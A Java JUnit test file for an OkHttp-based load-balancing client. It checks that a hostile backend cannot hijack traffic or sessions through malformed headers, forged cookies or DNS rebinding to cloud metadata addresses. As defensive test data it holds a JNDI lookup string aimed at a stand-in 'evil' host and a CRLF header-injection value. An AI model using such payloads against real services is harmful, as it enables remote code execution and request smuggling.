package io.evenload.okhttp;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.evenload.Chooser;
import io.evenload.EndpointState;
import io.evenload.LoadBalancerStatus.EndpointStatus;
import io.evenload.RequestContext;
import io.evenload.Server;
import io.evenload.UpdatableServerList;
import io.evenload.discovery.Networks;
import io.evenload.okhttp.BalancedClient.Reply;
import java.io.IOException;
import java.net.CookieManager;
import java.net.HttpCookie;
import java.net.InetAddress;
import java.net.UnknownHostException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.function.Consumer;
import java.util.stream.Stream;
import mockwebserver3.MockResponse;
import okhttp3.Dns;
import okhttp3.OkHttpClient;
import okhttp3.java.net.cookiejar.JavaNetCookieJar;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What one server may say, over real sockets, that would bring it calls or keep them from others.
 */
class HostileServerTest {

  private static final String COOKIE = "EVENLOAD_" + BalancedClient.HOST;

  /** What there may be in a header that wants a number. */
  private static final List<String> NUMBERS =
      List.of(
          "NaN",
          "-1",
          "1e308",
          "1e999",
          "4.9e-324",
          "-0",
          "Infinity",
          "0x7fffffffffffffff",
          "9223372036854775808",
          "9".repeat(5_000),
          "1;2,3",
          "\t",
          "%0d%0aX-Draining: 1",
          "${jndi:ldap://evil/x}");

  @RegisterExtension final Backends backends = new Backends();

  static Stream<Arguments> retryAfters() {
    List<String> values = new ArrayList<>(NUMBERS);
    values.addAll(
        List.of("0", "31536000", "Fri, 31 Dec 9999 23:59:59 GMT", "Thu, 01 Jan 1970 00:00:00 GMT"));
    return Stream.of(502, 503)
        .flatMap(status -> values.stream().map(value -> Arguments.of(status, value)));
  }

  @ParameterizedTest(name = "{0}, {index}")
  @MethodSource("retryAfters")
  void retryAfter_ofOneServer_keepsNoCallFromTheOthers(int status, String value)
      throws IOException {
    Backend hostile =
        backends
            .start("hostile")
            .always(response -> response.code(status).setHeader("Retry-After", value));
    BalancedClient client =
        backends
            .client(hostile, backends.start("b"), backends.start("c"))
            .balancer(balancer -> balancer.withoutOutlierDetection())
            .balancing(
                balancing ->
                    balancing
                        .retry(Policies.immediate(3).maxRetryAfter(Duration.ofSeconds(5)).build())
                        .hints(BackendHints.builder().retryAfter().build()))
            .build();

    for (int i = 0; i < 3; i++) {
      Reply reply = client.get("/");
      assertThat(reply.code()).isEqualTo(200);
      assertThat(reply.server()).isEqualTo("b");
    }
    assertThat(state(client, "b")).isEqualTo(EndpointState.ELIGIBLE);
  }

  @ParameterizedTest
  @ValueSource(strings = {"31536000", "6", "Fri, 31 Dec 9999 23:59:59 GMT"})
  void retryAfter_of429BeyondThePolicysLimit_isReturnedAtOnce(String value) throws IOException {
    Backend hostile =
        backends
            .start("hostile")
            .always(response -> response.code(429).setHeader("Retry-After", value));
    BalancedClient client =
        backends
            .client(hostile, backends.start("b"))
            .balancing(
                balancing ->
                    balancing.retry(
                        Policies.immediate(3).maxRetryAfter(Duration.ofSeconds(5)).build()))
            .build();

    assertThat(client.get("/").code()).isEqualTo(429);
    assertThat(hostile.hits()).isEqualTo(1);
  }

  @Test
  void retryAfter_of429BeyondTheCallsTimeout_isReturnedAtOnce() throws IOException {
    Backend hostile =
        backends
            .start("hostile")
            .always(response -> response.code(429).setHeader("Retry-After", "3000"));
    BalancedClient client =
        backends
            .client(hostile, backends.start("b"))
            .http(http -> http.callTimeout(1, TimeUnit.MINUTES))
            .build();

    assertThat(client.get("/").code()).isEqualTo(429);
    assertThat(hostile.hits()).isEqualTo(1);
  }

  @Test
  void hints_absurd_breakNoCallAndTouchNoOtherServer() throws IOException {
    Backend hostile = backends.start("hostile");
    BalancedClient client =
        believing(hostile, backends.start("b"), backends.start("c"))
            .balancing(Policies.attempts(1))
            .build();
    List<String> reports = new ArrayList<>(NUMBERS);
    for (String number : NUMBERS) {
      reports.add("TEXT cpu_utilization=" + number + ",rps_fractional=" + number);
      reports.add("JSON {\"cpu_utilization\":" + number + ",\"rps_fractional\":1e308}");
      reports.add("application_utilization=4.9e-324,rps=1e308,eps=" + number);
    }
    reports.add("JSON " + "{\"a\":".repeat(1_500));
    reports.add("JSON {" + "\"a\":1,".repeat(1_000) + "\"a\":1}");
    reports.add("a=1,".repeat(2_000) + "a=1");
    for (String report : reports) {
      hostile.next(
          response ->
              response
                  .setHeader("endpoint-load-metrics", report)
                  .setHeader("X-Draining", "false")
                  .setHeader("Retry-After", report));
      assertThat(client.get("/").server()).isEqualTo("hostile");
    }
    assertThat(client.balancer().status().endpoints())
        .allMatch(endpoint -> endpoint.state() == EndpointState.ELIGIBLE)
        .allMatch(endpoint -> endpoint.weight() > 0 && endpoint.weight() <= 2);
  }

  @ParameterizedTest
  @EnumSource(names = {"HTTP_1", "HTTP_2"})
  void headers_thousandsOrHuge_costTheirServerAlone(Wire wire) throws IOException {
    Backend hostile = backends.start("hostile", wire);
    BalancedClient client = believing(hostile, backends.start("b", wire)).build();
    hostile.next(
        response -> {
          for (int i = 0; i < 2_000; i++) {
            response.addHeader("endpoint-load-metrics", "rps=" + i);
          }
          return response;
        });
    assertThat(client.get("/").server()).isEqualTo("hostile");
    if (wire == Wire.HTTP_1) { // OkHttp reads 256 kB of them at most
      hostile.next(response -> response.setHeader("Retry-After", "9".repeat(400_000)));
      assertThat(client.get("/").server()).isEqualTo("b");
    }
    assertThat(state(client, "b")).isEqualTo(EndpointState.ELIGIBLE);
  }

  @Test
  void drainingHeader_whateverItNames_drainsItsServerAlone() throws IOException {
    Backend hostile = backends.start("hostile");
    BalancedClient client = believing(hostile, backends.start("b"), backends.start("c")).build();
    hostile.next(response -> response.setHeader("X-Draining", "b, c, *"));
    assertThat(client.get("/").server()).isEqualTo("hostile");
    client.await(() -> state(client, "hostile") == EndpointState.DRAINING);

    assertThat(client.get("/").server()).isEqualTo("b");
    assertThat(state(client, "b")).isEqualTo(EndpointState.ELIGIBLE);
    assertThat(state(client, "c")).isEqualTo(EndpointState.ELIGIBLE);
  }

  @ParameterizedTest
  @EnumSource(mode = EnumSource.Mode.EXCLUDE, names = "OKHTTP")
  void cookieOfTheServersOwn_ofOneThatWantsAllSessions_isNotKept(Way way) throws IOException {
    Backend hostile = backends.start("hostile");
    Backend b = backends.start("b");
    String wanted = tokenOf("hostile", hostile, b);
    MockResponse.Builder claim =
        new MockResponse.Builder()
            .addHeader(Backend.ID, "hostile")
            .addHeader("Set-Cookie", COOKIE + "=" + wanted + "; Path=/; Max-Age=31536000")
            .addHeader("set-cookie", "  " + COOKIE + "=" + wanted + "; Domain=orders.test")
            .addHeader("Set-Cookie", "JSESSIONID=its-own");
    hostile.answering(bare -> claim.build());
    CookieManager cookies = new CookieManager();
    BalancedClient client =
        sessions(cookies, hostile, b)
            .balancing(way == Way.NOT_RETRIED ? o -> {} : way::set)
            .build();
    RequestContext onlyB = RequestContext.create().only(server -> server.id().equals("b"));
    RequestContext onlyHostile =
        RequestContext.create().only(server -> server.id().equals("hostile"));
    client.execute(client.request("/").tag(RequestContext.class, onlyB).build());
    assertThat(client.get("/").server()).isEqualTo("b");

    Reply reply =
        client.execute(client.request("/").tag(RequestContext.class, onlyHostile).build());

    assertThat(reply.server()).isEqualTo("hostile");
    assertThat(reply.headers().values("Set-Cookie")).containsExactly("JSESSIONID=its-own");
    for (int i = 0; i < 5; i++) {
      assertThat(client.get("/").server()).isEqualTo("b");
    }
    assertThat(cookies.getCookieStore().getCookies())
        .extracting(HttpCookie::getName)
        .containsExactlyInAnyOrder(COOKIE, "JSESSIONID");
  }

  @Test
  void sessions_thatBegin_areSharedFairlyWhateverCookiesAServerSets() throws IOException {
    Backend hostile = backends.start("hostile");
    Backend b = backends.start("b");
    Backend c = backends.start("c");
    String wanted = tokenOf("hostile", hostile, b, c);
    hostile.always(response -> response.setHeader("Set-Cookie", COOKIE + "=" + wanted));
    for (int user = 0; user < 9; user++) {
      BalancedClient client =
          sessions(new CookieManager(), hostile, b, c).chooser(inTurn(user)).build();
      client.get("/");
      client.get("/");
      client.get("/");
    }
    assertThat(hostile.hits()).isEqualTo(1 + 9);
    assertThat(b.hits()).isEqualTo(9);
    assertThat(c.hits()).isEqualTo(9);
  }

  @ParameterizedTest
  @EnumSource(mode = EnumSource.Mode.EXCLUDE, names = "OKHTTP")
  void name_thatLeadsToMetadata_isRefusedWhenItIsLookedUp(Way way) throws IOException {
    Backend b = backends.start("b");
    Server named = Server.builder("rebound.test", b.port()).id("rebound").build();
    String[] address = {"127.0.0.1"};
    Dns dns = host -> List.of(InetAddress.getByName(address[0]));
    BalancedClient client =
        backends.client(Wire.HTTP_1, named).http(http -> http.dns(dns)).balancing(way::set).build();
    assertThat(client.get("/").server()).isEqualTo("b");
    client.http().connectionPool().evictAll();

    for (String metadata : List.of("169.254.169.254", "fe80::1", "fd00:ec2::254")) {
      address[0] = metadata;
      assertThatThrownBy(() -> client.get("/"))
          .isInstanceOf(UnknownHostException.class)
          .hasMessageStartingWith("rebound.test: refused, as it leads to ")
          .hasMessageEndingWith(", which is not in the networks of its service");
    }
    assertThat(b.hits()).isEqualTo(1);
  }

  @Test
  void name_withSomeAddressesElsewhere_isCalledAtTheOthers() throws IOException {
    Backend b = backends.start("b");
    Server named = Server.builder("mixed.test", b.port()).id("mixed").build();
    Dns dns =
        host ->
            List.of(
                InetAddress.getByName("169.254.169.254"),
                InetAddress.getByName("::ffff:169.254.170.2"),
                InetAddress.getLoopbackAddress());
    BalancedClient client = backends.client(Wire.HTTP_1, named).http(http -> http.dns(dns)).build();

    assertThat(client.get("/").server()).isEqualTo("b");
  }

  @Test
  void name_outsideTheGivenNetworks_isRefusedAndAnotherServerTried() throws IOException {
    Backend b = backends.start("b");
    Server named = Server.builder("outside.test", b.port()).id("outside").build();
    Dns dns = host -> List.of(InetAddress.getAllByName("::1"));
    BalancedClient client =
        backends
            .client(Wire.HTTP_1, named, b.server())
            .http(http -> http.dns(dns))
            .balancer(balancer -> balancer.networks(Networks.of("127.0.0.0/8")))
            .build();

    assertThat(client.get("/").server()).isEqualTo("b");
    assertThat(client.ended()).hasSize(2);
  }

  @Test
  void list_withAMetadataAddress_neverGetsACall() throws IOException {
    Backend b = backends.start("b");
    BalancedClient client =
        backends
            .client(Wire.HTTP_1, b.server())
            .servers(new UpdatableServerList(List.of(Server.of("169.254.169.254", 80), b.server())))
            .build();

    assertThat(client.get("/").server()).isEqualTo("b");
    assertThat(client.balancer().status().endpoints()).hasSize(1);
  }

  /** The value of the cookie of a session at this server. */
  private String tokenOf(String id, Backend... servers) throws IOException {
    CookieManager cookies = new CookieManager();
    BalancedClient client = sessions(cookies, servers).build();
    RequestContext only = RequestContext.create().only(server -> server.id().equals(id));
    client.execute(client.request("/").tag(RequestContext.class, only).build());
    return cookies.getCookieStore().getCookies().get(0).getValue();
  }

  private BalancedClient.Builder sessions(CookieManager cookies, Backend... servers) {
    Consumer<OkHttpClient.Builder> jar = http -> http.cookieJar(new JavaNetCookieJar(cookies));
    return backends
        .client(servers)
        .http(jar)
        .balancing(balancing -> balancing.affinity(Affinity.serverCookie()));
  }

  private BalancedClient.Builder believing(Backend... servers) {
    return backends
        .client(servers)
        .balancing(
            balancing ->
                balancing.hints(
                    BackendHints.builder()
                        .loadReports()
                        .retryAfter()
                        .drainingHeader("X-Draining")
                        .build()));
  }

  private static Chooser inTurn(int user) {
    return (eligible, request) -> eligible.get(user % eligible.size());
  }

  private static EndpointState state(BalancedClient client, String id) {
    return client.balancer().status().endpoints().stream()
        .filter(endpoint -> endpoint.server().id().equals(id))
        .map(EndpointStatus::state)
        .findFirst()
        .orElseThrow();
  }
}
